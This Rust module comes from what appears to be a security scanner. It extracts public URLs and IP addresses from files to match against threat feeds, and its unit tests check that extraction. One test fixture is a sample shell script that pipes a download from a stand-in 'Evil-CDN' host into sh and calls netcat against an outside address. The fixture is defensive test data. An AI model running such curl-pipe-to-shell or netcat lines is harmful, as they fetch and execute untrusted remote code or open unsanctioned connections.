//! Extraction of URLs and IP addresses from files: text as it is, binaries through the same
//! patterns (which only match printable runs). Only public indicators are kept, so the cache
//! holds what could ever match a feed.

use crate::analyze::{Analyzer, Artifact, Want, is_file};
use crate::layer::walk::EntryMeta;
use crate::threat::indicator::Indicator;
use regex::bytes::Regex;
use std::collections::BTreeSet;
use std::sync::LazyLock;

/// Content read per file: indicators sit in scripts, configs and binaries' string tables.
const MAX_READ: u64 = 8 << 20;
/// Indicators kept per file; a file with more is a list of its own (documentation, data).
const MAX_PER_FILE: usize = 256;

/// Files whose content is compressed or media: no plain-text indicator survives in them.
const SKIP_EXTENSIONS: &[&str] = &[
    ".gz", ".xz", ".bz2", ".zst", ".lz4", ".zip", ".jar", ".whl", ".png", ".jpg", ".jpeg", ".gif",
    ".ico", ".svgz", ".woff", ".woff2", ".ttf", ".otf", ".pyc", ".mo", ".deb", ".rpm", ".apk",
];

/// Trees of documentation, translations and reference data: an indicator there is a citation,
/// not something the image runs or connects to, and these trees are a large part of every
/// distribution image.
const SKIP_PREFIXES: &[&str] = &[
    "usr/share/doc/",
    "usr/share/man/",
    "usr/share/info/",
    "usr/share/locale/",
    "usr/share/i18n/",
    "usr/share/zoneinfo/",
    "usr/share/common-licenses/",
    "usr/share/terminfo/",
    "usr/share/mime/",
    "usr/include/",
    "var/lib/dpkg/",
    "var/lib/apt/lists/",
    "var/cache/debconf/",
];

/// URLs: the literal `://` lets the regex engine skip most bytes without looking at them.
static URL: LazyLock<Regex> = LazyLock::new(|| {
    // A constant pattern, tested below: building it cannot fail.
    Regex::new(r"(?-u)(?i:https?|ftp)://[A-Za-z0-9\-._~%!$&'()*+,;=:@/?\[\]]+")
        .expect("URL pattern compiles")
});

/// IPv4 and IPv6 addresses. They start with any digit, so a regex alone looks at every byte
/// (about 0.4 GiB/s); [`ip_runs`] hands it only the runs around a `.` or `:`.
static IP: LazyLock<Regex> = LazyLock::new(|| {
    // A constant pattern, tested below: building it cannot fail.
    Regex::new(
        r#"(?x-u)
        \b(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])(?:\.(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])){3}\b
      | \b[0-9A-Fa-f]{1,4}(?::[0-9A-Fa-f]{0,4}){3,7}\b
    "#,
    )
    .expect("IP pattern compiles")
});

/// Bytes an address is made of.
fn in_address(b: u8) -> bool {
    b.is_ascii_hexdigit() || b == b'.' || b == b':'
}

/// The maximal runs of address bytes that hold a `.` or `:` next to a hex digit: every IP
/// match lies inside one. Each byte is looked at a bounded number of times.
fn ip_runs(content: &[u8]) -> impl Iterator<Item = (usize, usize)> + '_ {
    let mut done = 0;
    memchr::memchr2_iter(b'.', b':', content).filter_map(move |p| {
        if p < done {
            return None;
        }
        let hex_before = p > 0 && content[p - 1].is_ascii_hexdigit();
        let hex_after = content.get(p + 1).is_some_and(u8::is_ascii_hexdigit);
        if !hex_before && !hex_after {
            return None;
        }
        let start = content[..p]
            .iter()
            .rposition(|b| !in_address(*b))
            .map_or(0, |i| i + 1);
        let end = content[p..]
            .iter()
            .position(|b| !in_address(*b))
            .map_or(content.len(), |i| p + i);
        done = end;
        Some((start, end))
    })
}

/// Finds public URLs and IP addresses in files.
pub struct IndicatorAnalyzer;

impl Analyzer for IndicatorAnalyzer {
    fn name(&self) -> &'static str {
        "indicators"
    }

    fn version(&self) -> u32 {
        1
    }

    fn wants(&self, entry: &EntryMeta) -> Option<Want> {
        let lower = entry.path.to_ascii_lowercase();
        (is_file(entry)
            && entry.size > 0
            && !SKIP_PREFIXES.iter().any(|p| entry.path.starts_with(p))
            && !SKIP_EXTENSIONS.iter().any(|e| lower.ends_with(e)))
        .then_some(Want::Content(MAX_READ))
    }

    fn analyze(
        &self,
        _entry: &EntryMeta,
        content: &[u8],
        _truncated: bool,
    ) -> Result<Vec<Artifact>, String> {
        let found = extract(content);
        Ok(if found.is_empty() {
            Vec::new()
        } else {
            vec![Artifact::Indicators(found)]
        })
    }
}

/// The public indicators in `content`, at most [`MAX_PER_FILE`], in order of their keys.
pub fn extract(content: &[u8]) -> Vec<Indicator> {
    let mut out = BTreeSet::new();
    let mut urls = Vec::new();
    for m in URL.find_iter(content) {
        urls.push(m.range());
        if keep(m.as_bytes(), &mut out) {
            return out.into_iter().collect();
        }
    }
    // An address inside a URL is part of that URL, not an indicator of its own. The URLs are
    // in order and do not overlap: the first one ending after `at` is the only candidate.
    let in_url = |at: usize| {
        urls.get(urls.partition_point(|r| r.end <= at))
            .is_some_and(|r| r.contains(&at))
    };
    for (start, end) in ip_runs(content) {
        // One byte past the run, so `\b` at its end sees what follows.
        let hay = &content[..(end + 1).min(content.len())];
        let mut at = start;
        while let Some(m) = IP.find_at(hay, at) {
            at = m.end().max(m.start() + 1);
            if !in_url(m.start()) && keep(m.as_bytes(), &mut out) {
                return out.into_iter().collect();
            }
        }
    }
    out.into_iter().collect()
}

/// Parse and keep one match if it is a public indicator; `true` once the file's cap is reached.
fn keep(found: &[u8], out: &mut BTreeSet<Indicator>) -> bool {
    let Ok(text) = std::str::from_utf8(found) else {
        return false;
    };
    // Trailing punctuation belongs to the sentence, not the URL.
    let text = text.trim_end_matches(['.', ',', ';', ':', ')', ']', '\'', '!', '?']);
    let Some(ind) = Indicator::parse(text) else {
        return false;
    };
    let wanted = match &ind {
        // A bare `a::b` is more often a path in a symbol table than an address.
        Indicator::Ip(std::net::IpAddr::V6(_)) => text.matches(':').count() >= 3,
        Indicator::Ip(_) | Indicator::Url(_) => true,
        _ => false,
    };
    if wanted && ind.is_public() {
        out.insert(ind);
    }
    out.len() >= MAX_PER_FILE
}

#[cfg(test)]
mod tests {
    use super::*;

    fn keys(text: &[u8]) -> Vec<String> {
        extract(text).iter().map(Indicator::key).collect()
    }

    #[test]
    fn finds_public_urls_and_addresses_in_text_and_binaries() {
        let script = b"#!/bin/sh\ncurl -s http://Evil-CDN.net:80/x.sh | sh # see https://docs.test/.\nnc 192.9.135.73 1194\nping 10.0.0.1; ping 2606:4700:4700::1111\nversion 1.2.3\n";
        assert_eq!(
            keys(script),
            vec![
                "ip:192.9.135.73",
                "ip:2606:4700:4700::1111",
                "url:http://evil-cdn.net/x.sh"
            ]
        );
        let mut binary = vec![0u8, 1, 2, 0xff];
        binary.extend_from_slice(b"\x00\x00http://1.2.3.4:8080/payload\x00std::io::Read\x00");
        assert_eq!(keys(&binary), vec!["url:http://1.2.3.4:8080/payload"]);
        assert!(keys(b"no indicators here, 999.1.1.1 or 1.2.3").is_empty());
        assert!(keys(&vec![0xffu8; 1 << 16]).is_empty());
    }

    /// The single regex extraction used before the runs prefilter: the oracle.
    fn one_pass(content: &[u8]) -> Vec<Indicator> {
        let all = Regex::new(&format!("{}|{}", URL.as_str(), IP.as_str())).unwrap();
        let mut out = BTreeSet::new();
        for m in all.find_iter(content) {
            if keep(m.as_bytes(), &mut out) {
                break;
            }
        }
        out.into_iter().collect()
    }

    #[test]
    fn the_prefiltered_passes_agree_with_one_regex_pass() {
        let cases: [&[u8]; 8] = [
            b"1.2.3.4.5 8.8.8.8x 9.9.9.9_ a9.9.9.9 (9.9.9.9) 300.1.1.1 01.2.3.4",
            b"http://1.2.3.4:8080/p and 5.6.7.8 then ftp://[2606:4700::1111]/x",
            b"fe80::1 2001:db8::1 2606:4700:4700::1111: ::ffff:8.8.4.4 dead:beef",
            b"v1.2.3 libc.so.6 GLIBC_2.2.5 3.14159 1.1.1.1.",
            b"..::..::1.1.1.1::..",
            b"",
            b"http://",
            b"\x001.0.0.1\x00",
        ];
        for c in cases {
            assert_eq!(extract(c), one_pass(c), "{}", String::from_utf8_lossy(c));
        }
        // The machine's own binaries and configuration, as far as they are readable.
        let mut checked = 0;
        for dir in ["/usr/bin", "/etc"] {
            let Ok(rd) = std::fs::read_dir(dir) else {
                continue;
            };
            for e in rd.flatten() {
                let Ok(bytes) = std::fs::read(e.path()) else {
                    continue;
                };
                if bytes.len() > 2 << 20 {
                    continue;
                }
                let expected = one_pass(&bytes);
                if expected.len() < MAX_PER_FILE {
                    assert_eq!(extract(&bytes), expected, "{}", e.path().display());
                    checked += 1;
                }
            }
        }
        assert!(checked > 0);
    }
}
